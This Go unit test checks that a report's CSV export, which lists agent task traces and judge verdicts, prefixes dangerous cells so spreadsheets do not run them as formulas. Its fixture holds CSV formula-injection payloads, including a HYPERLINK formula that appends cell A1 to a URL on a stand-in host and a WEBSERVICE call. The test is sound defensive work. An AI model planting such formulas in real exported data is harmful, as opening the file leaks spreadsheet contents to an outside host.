package report

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// A task text starting with = ran as a formula in the spreadsheet that opened the CSV. So
// would the judge's reason for its verdict, which quotes what the screens showed.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	r := &Report{Traces: []*TraceView{{Name: "@evil", Task: `=HYPERLINK("http://x.example/?"&A1,"open")`, App: "+clock", Agent: "-agent",
		Status: "completed", Judgments: []JudgmentView{{Judge: "\t=1+1", Agreement: "agrees", Verdict: "success",
			VerdictReason: "=WEBSERVICE(\"http://x.example/\") was shown on frame 3"}}}}}
	var b bytes.Buffer
	if err := r.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := recs[1]
	for i, want := range map[int]string{0: "'@evil", 2: `'=HYPERLINK("http://x.example/?"&A1,"open")`, 3: "'+clock", 4: "'-agent", 10: "'\t=1+1", 16: "agrees", 21: "success",
		22: `'=WEBSERVICE("http://x.example/") was shown on frame 3`} {
		if row[i] != want {
			t.Errorf("column %s: %q, want %q", CSVHeader[i], row[i], want)
		}
	}
}
